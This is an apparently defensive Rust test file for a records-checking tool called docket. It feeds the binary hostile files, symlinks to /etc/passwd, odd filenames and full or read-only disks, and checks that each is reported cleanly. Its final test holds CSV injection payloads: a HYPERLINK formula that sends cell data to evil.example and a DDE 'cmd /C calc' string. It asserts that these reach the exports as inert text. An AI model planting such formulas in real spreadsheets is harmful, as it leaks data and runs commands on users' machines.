//! Hostile input through the real binary: files nobody would write on purpose, all in one
//! workspace, each reported at its place while the rest of the workspace is still checked.
//! Every run goes through the harness's hang guard.

use crate::harness::{Found, Ws};
use docket::internals::model::records::{RecordKind, known_fields};

const M: &str = "clients/acme/minutes";

/// Writes the hostile files into the clean base workspace, with a mistake in a healthy
/// record beside them to prove checking goes on.
fn hostile() -> Ws {
    let ws = Ws::base();
    // A PNG saved under a record's name: the first byte is not UTF-8.
    ws.write(
        &format!("{M}/2026-11-01-logo.md"),
        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0",
    );
    // Valid UTF-8 with a NUL: a binary file all the same, reported at the NUL.
    ws.write(&format!("{M}/2026-11-02-nul.md"), "---\ntitle: a\0b\n---\n");
    // A front matter that is one sentence, one that is empty.
    ws.write(
        &format!("{M}/2026-11-03-scalar.md"),
        "---\njust a sentence\n---\n",
    );
    ws.write(&format!("{M}/2026-11-04-empty-fm.md"), "---\n---\nbody\n");
    // 1000 levels of nesting, flow and block: refused at level 33, not a stack overflow.
    let flow = format!(
        "---\nx-deep: {}{}\n---\n",
        "[".repeat(1000),
        "]".repeat(1000)
    );
    ws.write(&format!("{M}/2026-11-05-flow.md"), flow);
    let block: String = (0..1000)
        .map(|i| format!("{}a:\n", "  ".repeat(i)))
        .collect();
    ws.write(
        &format!("{M}/2026-11-06-block.md"),
        format!("---\n{block}---\n"),
    );
    // A byte-order mark and CRLF line endings: positions are as an editor shows them.
    ws.write(
        &format!("{M}/2026-11-07-crlf.md"),
        "\u{feff}---\r\nkind: meetng\r\ntitle: Café\r\ndate: 2026-11-07\r\n---\r\nBody\r\n",
    );
    // Indentation with a tab: reported at the tab.
    ws.write(
        "clients/acme/orders/WO-2026-0009.md",
        "---\nnumber: WO-2026-0009\nkind: creative\ntitle: T\nrequested: 2026-11-01\nbudget:\n\tamount: 5\n---\n",
    );
    // A 5 MB line with a mistake at its end.
    let long = format!(
        "---\nkind: client\ntitle: T\ndate: 2026-11-08\ndecisions: [\"{}\", [1]]\n---\n",
        "a".repeat(5_000_000)
    );
    ws.write(&format!("{M}/2026-11-08-long.md"), long);
    // A sparse file of 1 GiB: refused from its size, never read.
    let huge = std::fs::File::create(ws.path().join(format!("{M}/2026-11-09-huge.md"))).unwrap();
    huge.set_len(1 << 30).unwrap();
    // Closed with `...` rather than `---`: fine, and the mistake inside is found.
    ws.write(
        &format!("{M}/2026-11-10-dots.md"),
        "---\nkind: client\ntitle: T\ndate: 2026-11-10\nattended: [nobody.here]\n...\nBody\n",
    );
    ws
}

#[test]
fn every_hostile_file_is_reported_at_its_place_and_the_rest_is_checked() {
    let ws = hostile();
    let (code, found_all, json) = ws.check_json();
    assert_eq!(code, 1);
    let at = |f: &str| format!("{M}/{f}");
    let expected = [
        Found::new("D002", &at("2026-11-01-logo.md"), 1, 1),
        Found::new("D002", &at("2026-11-02-nul.md"), 2, 9),
        Found::new("D009", &at("2026-11-03-scalar.md"), 2, 1),
        Found::new("D009", &at("2026-11-04-empty-fm.md"), 1, 1),
        // `x-deep: ` is 8 characters; the 33rd bracket opens level 33.
        Found::new("D008", &at("2026-11-05-flow.md"), 2, 41),
        // Line 34 holds the 33rd key, indented 2 x 32 spaces.
        Found::new("D008", &at("2026-11-06-block.md"), 34, 65),
        // The BOM is not a column: `meetng` starts at column 7 of line 2.
        Found::new("D027", &at("2026-11-07-crlf.md"), 2, 7),
        Found::new("D006", "clients/acme/orders/WO-2026-0009.md", 7, 1),
        // `decisions: ["` is 13 characters, then 5,000,000 `a`, then `", ` (3).
        Found::new("D022", &at("2026-11-08-long.md"), 5, 5_000_017),
        Found::new("D010", &at("2026-11-09-huge.md"), 1, 1),
        Found::new("D040", &at("2026-11-10-dots.md"), 5, 12),
    ];
    for e in &expected {
        assert!(
            found_all.contains(e),
            "missing {e}; found:\n{}",
            found_all
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join("\n")
        );
    }
    // Records that could be read were linked and checked: the base's two work orders,
    // and the CRLF, long-line and `...` minutes, whose mistakes are in single fields.
    assert_eq!(json["summary"]["records"].as_u64(), Some(5));
    let huge = json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["code"] == "D010")
        .unwrap();
    assert_eq!(
        huge["message"],
        "this file is 1.0 GiB; records are read up to 10 MiB"
    );
}

#[test]
fn human_output_of_a_huge_line_stays_small() {
    let ws = hostile();
    let run = ws.run(&["check", "{ws}", "--today", crate::harness::TODAY]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.is_empty() || !run.stderr.contains("panicked"));
    // The renderer trims the 5 MB line around the caret.
    assert!(
        run.stdout.len() < 20_000,
        "human output is {} bytes",
        run.stdout.len()
    );
}

#[test]
fn a_settings_file_that_is_not_utf8_is_a_diagnostic() {
    let ws = Ws::base();
    let mut text = std::fs::read(ws.path().join("docket.yaml")).unwrap();
    text.extend_from_slice(b"# caf\xe9\n");
    ws.write("docket.yaml", text);
    let (code, found_all, _) = ws.check_json();
    assert_eq!(code, 1);
    assert!(
        found_all
            .iter()
            .any(|f| f.code == "D002" && f.file == "docket.yaml"),
        "{found_all:?}"
    );
}

/// Writes `field: [[1]]` (a list of lists, wrong for every field of the format) as the
/// last line of an otherwise valid record of each type, one record per field.
#[test]
fn a_wrong_type_in_any_field_is_reported_at_that_field() {
    let ws = Ws::base();
    let mut expected = Vec::new();
    let mut n = 0;
    for kind in [
        RecordKind::Client,
        RecordKind::Minutes,
        RecordKind::Order,
        RecordKind::Schedule,
        RecordKind::Invoice,
    ] {
        for field in known_fields(kind) {
            n += 1;
            let (path, fields): (String, Vec<(&str, String)>) = match kind {
                RecordKind::Client => (
                    format!("clients/t{n}/client.md"),
                    vec![("name", format!("Test {n}")), ("ae", "ann.ae".into())],
                ),
                RecordKind::Minutes => (
                    format!("{M}/2026-11-02-t{n}.md"),
                    vec![
                        ("kind", "client".into()),
                        ("title", "T".into()),
                        ("date", "2026-11-02".into()),
                    ],
                ),
                RecordKind::Order => (
                    format!("clients/acme/orders/WO-2026-{:04}.md", 100 + n),
                    vec![
                        ("number", format!("WO-2026-{:04}", 100 + n)),
                        ("kind", "creative".into()),
                        ("title", "T".into()),
                        ("requested", "2026-11-01".into()),
                    ],
                ),
                RecordKind::Schedule => (
                    format!("clients/acme/schedules/t{n}.md"),
                    vec![
                        ("title", "T".into()),
                        ("from", "2026-11-01".into()),
                        ("to", "2026-11-30".into()),
                    ],
                ),
                RecordKind::Invoice => (
                    format!("clients/acme/invoices/INV-2026-{:04}.md", 100 + n),
                    vec![("number", format!("INV-2026-{:04}", 100 + n))],
                ),
            };
            let mut text = String::from("---\n");
            for (k, v) in fields.iter().filter(|(k, _)| k != field) {
                text.push_str(&format!("{k}: {v}\n"));
            }
            let line = text.lines().count() + 1;
            text.push_str(&format!("{field}: [[1]]\n---\n"));
            ws.write(&path, text);
            expected.push((path, field.to_string(), line));
        }
    }
    let (code, found_all, _) = ws.check_json();
    assert_eq!(code, 1);
    let mut missing = Vec::new();
    for (path, field, line) in &expected {
        // `type` is a choice: its wrong value is reported as a wrong type as well.
        if !found_all
            .iter()
            .any(|f| f.code == "D022" && &f.file == path && f.line == *line)
        {
            missing.push(format!("{path}: `{field}` on line {line}"));
        }
    }
    assert!(
        missing.is_empty(),
        "no wrong-type diagnostic for:\n{}\nfound:\n{}",
        missing.join("\n"),
        found_all
            .iter()
            .map(ToString::to_string)
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert!(expected.len() > 50, "{} fields tried", expected.len());
}

/// Links that loop, lead out of the workspace or nowhere, and names with a space, with
/// Unicode, with a line break and with bytes that are not UTF-8: each link is reported
/// and never followed, each unusable name is refused, and the site holds nothing of the
/// files outside.
#[test]
fn links_and_odd_names_are_reported_and_nothing_outside_is_read() {
    use std::os::unix::ffi::OsStrExt;
    let ws = Ws::base();
    let dir = ws.path().join(M);
    std::fs::create_dir_all(&dir).unwrap();
    let link = |target: &str, name: &str| std::os::unix::fs::symlink(target, dir.join(name));
    link("..", "loop").unwrap();
    link("/etc/passwd", "2026-11-01-passwd.md").unwrap();
    link("nowhere.md", "2026-11-02-dangling.md").unwrap();
    std::os::unix::fs::symlink(ws.path().join("clients"), ws.path().join("clients/acme/up"))
        .unwrap();
    let minutes = |date: &str| format!("---\nkind: client\ntitle: T\ndate: {date}\n---\nBody\n");
    ws.write(
        &format!("{M}/2026-11-03-café-北京.md"),
        minutes("2026-11-03"),
    );
    ws.write(
        &format!("{M}/2026-11-04-new\nline.md"),
        minutes("2026-11-04"),
    );
    let not_utf8 = std::ffi::OsStr::from_bytes(b"2026-11-05-\xff.md");
    std::fs::write(dir.join(not_utf8), minutes("2026-11-05")).unwrap();

    let (code, mut found_all, json) = ws.check_json();
    found_all.sort();
    assert_eq!(code, 1);
    let at = |f: &str| format!("{M}/{f}");
    let mut expected = vec![
        Found::new("D011", &at("2026-11-01-passwd.md"), 1, 1),
        Found::new("D011", &at("2026-11-02-dangling.md"), 1, 1),
        Found::new("D011", &at("loop"), 1, 1),
        Found::new("D011", "clients/acme/up", 1, 1),
        Found::new("D013", &at("2026-11-04-new\nline.md"), 1, 1),
        Found::new("D013", &at("2026-11-05-\u{fffd}.md"), 1, 1),
    ];
    expected.sort();
    assert_eq!(found_all, expected, "{json}");
    let messages: Vec<&str> = json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["message"].as_str().unwrap())
        .collect();
    assert!(messages.iter().any(|m| m.contains("outside the workspace")));
    assert!(messages.iter().any(|m| m.contains("leads nowhere")));
    assert!(
        messages
            .iter()
            .any(|m| m.contains("new\\nline.md` has a line break"))
    );
    assert!(messages.iter().any(|m| m.contains("not UTF-8")));

    // People read the human output line by line: the line break is shown, not printed.
    let human = ws.run(&["check", "{ws}", "--today", crate::harness::TODAY]);
    assert!(
        human
            .stdout
            .contains("--> clients/acme/minutes/2026-11-04-new\\nline.md:1:1")
    );
    assert!(!human.stdout.contains("new\nline"), "{}", human.stdout);

    // With the refused names gone, the site builds and holds nothing of /etc/passwd.
    std::fs::remove_file(dir.join("2026-11-04-new\nline.md")).unwrap();
    std::fs::remove_file(dir.join(not_utf8)).unwrap();
    let out = tempfile::tempdir().unwrap();
    let site = out.path().join("site");
    let run = crate::site::build(&ws, "{ws}", &site, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap();
    let first = passwd.lines().next().unwrap();
    for (path, bytes) in crate::site::files(&site) {
        assert!(!String::from_utf8_lossy(&bytes).contains(first), "{path}");
    }
}

/// A front matter of a million lines (a list of a million values, 6 MB: under the size
/// limit) is refused at the value limit, quickly, at the value that crosses it.
#[test]
fn a_million_line_front_matter_stops_at_the_value_limit() {
    let ws = Ws::base();
    let mut text = String::from(
        "---\nkind: client\ntitle: T\ndate: 2026-11-08\nattended: [ann.ae]\nx-list:\n",
    );
    for _ in 0..1_000_000 {
        text.push_str("  - a\n");
    }
    text.push_str("---\nBody\n");
    ws.write(&format!("{M}/2026-11-08-million.md"), &text);
    let (code, found_all, json) = ws.check_json();
    assert_eq!(code, 1);
    // The limit is 100,000 values. Twelve come before the list (the mapping, three keys
    // with their values, `attended` with its list and item, `x-list` and its list), so
    // the 99,989th item crosses it; items start on line 7.
    let line = 7 + (100_000 - 12);
    assert_eq!(
        found_all,
        vec![Found::new(
            "D008",
            &format!("{M}/2026-11-08-million.md"),
            line,
            5
        )],
        "{json}"
    );
}

/// A hundred thousand tiny records in one folder: all read, linked and checked.
#[test]
fn a_hundred_thousand_tiny_files_are_all_checked() {
    let ws = Ws::base();
    let dir = ws.path().join(M);
    std::fs::create_dir_all(&dir).unwrap();
    for i in 0..100_000 {
        std::fs::write(
            dir.join(format!("2026-11-01-n{i:06}.md")),
            "---\nkind: client\ntitle: T\ndate: 2026-11-01\n---\n",
        )
        .unwrap();
    }
    let (code, found_all, json) = ws.check_json();
    assert_eq!((code, found_all), (0, vec![]));
    assert_eq!(json["summary"]["records"].as_u64(), Some(100_002));
}

/// A folder docket may not read: reported with its path and a hint, and the rest of the
/// workspace is checked.
#[test]
fn an_unreadable_folder_is_reported_and_the_rest_is_checked() {
    use std::os::unix::fs::PermissionsExt;
    let ws = Ws::base();
    ws.write(
        "clients/bolt/minutes/2026-11-01-kickoff.md",
        "---\nkind: client\ntitle: T\ndate: 2026-11-01\nattended: [nobody.here]\n---\n",
    );
    let ws = ws.unprivileged();
    let closed = ws.path().join("clients/bolt/minutes");
    std::fs::set_permissions(&closed, std::fs::Permissions::from_mode(0o000)).unwrap();
    let (code, found_all, json) = ws.check_json();
    std::fs::set_permissions(&closed, std::fs::Permissions::from_mode(0o755)).unwrap();
    assert_eq!(code, 1);
    let unreadable: Vec<&serde_json::Value> = json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|d| d["code"] == "D001")
        .collect();
    assert_eq!(unreadable.len(), 1, "{json}");
    let message = unreadable[0]["message"].as_str().unwrap();
    assert!(message.starts_with("clients/bolt/minutes: "), "{message}");
    assert!(message.contains("Permission denied"), "{message}");
    // The records around it were read and are clean.
    assert_eq!(found_all.len(), 1, "{found_all:?}");
    assert_eq!(json["summary"]["records"].as_u64(), Some(2));
}

/// Runs `script` with `sh` in a mount namespace of its own (`unshare -rm`), where it may
/// mount a small tmpfs that vanishes with it. `None` where namespaces are not available;
/// CI has them and insists.
fn in_mount_namespace(script: &str, args: &[&std::path::Path]) -> Option<std::process::Output> {
    let probe = std::process::Command::new("unshare")
        .args(["-rm", "true"])
        .output();
    if !probe.is_ok_and(|o| o.status.success()) {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI needs `unshare -rm` for the full and read-only disk tests"
        );
        eprintln!("skipped: `unshare -rm` is not available here");
        return None;
    }
    let mut command = std::process::Command::new("unshare");
    command
        .args(["-rm", "sh", "-c", script, "sh"])
        .args(args)
        .env("DOCKET", env!("CARGO_BIN_EXE_docket"))
        .env("NO_COLOR", "1");
    Some(command.output().unwrap())
}

/// The output folder on a disk that fills up while the site is written, and on one that
/// is read-only: `build` fails with the path and the system's reason, exit code 2, and
/// leaves no half-written site (no site at all when there was none, the old site
/// unchanged when there was one, and no staging folder behind).
#[test]
fn a_full_or_read_only_output_disk_fails_cleanly() {
    let ws = Ws::empty();
    crate::harness::copy_dir(
        &std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("example-workspace"),
        ws.path(),
    );
    let _ = std::fs::remove_dir_all(ws.path().join("_site"));
    let scratch = tempfile::tempdir().unwrap();
    // Each step prints `step=<exit code>`, then what is left on the small disk.
    let script = r#"
        set -u
        ws="$1"; disk="$2"; keep="$3"
        build() { "$DOCKET" build "$ws" --out "$disk/site" --today 2026-11-23 --quiet 2>"$keep/$1.err"; echo "$1=$?"; }
        mount -t tmpfs -o size=64k tmpfs "$disk" || exit 90
        build tiny
        echo "tiny-left=$(ls -A "$disk" | tr '\n' ' ')"
        mount -o remount,size=16m "$disk" || exit 91
        build roomy
        cp -a "$disk/site" "$keep/site"
        head -c 100000000 /dev/zero > "$disk/filler" 2>/dev/null
        build full
        echo "full-same=$(diff -r "$keep/site" "$disk/site" >/dev/null && echo yes || echo no)"
        echo "full-left=$(ls -A "$disk" | tr '\n' ' ')"
        rm "$disk/filler"
        mount -o remount,ro "$disk" || exit 92
        build readonly
        echo "readonly-same=$(diff -r "$keep/site" "$disk/site" >/dev/null && echo yes || echo no)"
    "#;
    let disk = scratch.path().join("disk");
    let keep = scratch.path().join("keep");
    std::fs::create_dir_all(&disk).unwrap();
    std::fs::create_dir_all(&keep).unwrap();
    let Some(out) = in_mount_namespace(script, &[ws.path(), &disk, &keep]) else {
        return;
    };
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let err = |step: &str| std::fs::read_to_string(keep.join(format!("{step}.err"))).unwrap();
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(
        lines,
        [
            "tiny=2",
            "tiny-left=",
            "roomy=0",
            "full=2",
            "full-same=yes",
            "full-left=filler site ",
            "readonly=2",
            "readonly-same=yes",
        ],
        "{}{}{}",
        err("tiny"),
        err("full"),
        err("readonly")
    );
    let tiny = err("tiny");
    assert!(tiny.starts_with("docket: cannot write "), "{tiny}");
    assert!(tiny.contains("No space left on device"), "{tiny}");
    assert!(tiny.trim_end().ends_with("; no site was written"), "{tiny}");
    let full = err("full");
    assert!(full.contains("No space left on device"), "{full}");
    assert!(full.trim_end().ends_with("/site is unchanged"), "{full}");
    let readonly = err("readonly");
    assert!(readonly.contains("Read-only file system"), "{readonly}");
    assert!(!readonly.contains("panicked") && !full.contains("panicked"));
}

/// A reader that stops early (`docket check | head -1`): docket ends quietly, by the
/// signal, without a panic message.
#[test]
fn a_closed_pipe_ends_docket_quietly() {
    use std::os::unix::process::ExitStatusExt;
    let ws = hostile();
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_docket"))
        .arg("check")
        .arg(ws.path())
        .args(["--today", crate::harness::TODAY, "--format", "json"])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.signal(), Some(13), "{out:?}");
    assert_eq!(String::from_utf8_lossy(&out.stderr), "");
}

/// A title or a task written as a spreadsheet formula reaches finance's CSV exports as
/// text (a leading `'`), never as a formula that runs when the file is opened.
#[test]
fn formulas_in_records_reach_the_csv_exports_as_text() {
    let ws = Ws::base();
    let order = ws.path().join("clients/acme/orders/WO-2026-0001.md");
    let text = std::fs::read_to_string(&order).unwrap();
    let title = text.lines().find(|l| l.starts_with("title:")).unwrap();
    ws.write(
        "clients/acme/orders/WO-2026-0001.md",
        text.replace(
            title,
            r#"title: '=HYPERLINK("https://evil.example/?"&B2, "Open")'"#,
        ),
    );
    ws.write(
        &format!("{M}/2026-11-02-calls.md"),
        "---\nkind: client\ntitle: '@SUM(1+1)'\ndate: 2026-11-02\nattended: [ann.ae]\nactions:\n  - { task: \"+cmd|' /C calc'!A0\", owner: ann.ae, due: 2026-11-30 }\n---\n",
    );
    let out = tempfile::tempdir().unwrap();
    let site = out.path().join("site");
    let run = crate::site::build(&ws, "{ws}", &site, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let read = |name: &str| -> Vec<csv::StringRecord> {
        csv::Reader::from_path(site.join("exports").join(name))
            .unwrap()
            .records()
            .map(Result::unwrap)
            .collect()
    };
    let orders = read("work-orders.csv");
    assert!(
        orders
            .iter()
            .any(|r| &r[2] == r#"'=HYPERLINK("https://evil.example/?"&B2, "Open")"#),
        "{orders:?}"
    );
    let actions = read("actions.csv");
    let call = actions.iter().find(|r| r[2].contains("calc")).unwrap();
    assert_eq!(&call[2], "'+cmd|' /C calc'!A0");
    assert!(call[1].starts_with("'@SUM"), "{call:?}");
    // No cell of any export begins with a formula character.
    for name in ["work-orders.csv", "invoices.csv", "actions.csv"] {
        for record in read(name) {
            for field in &record {
                assert!(!field.starts_with(['=', '+', '@']), "{name}: {record:?}");
            }
        }
    }
}
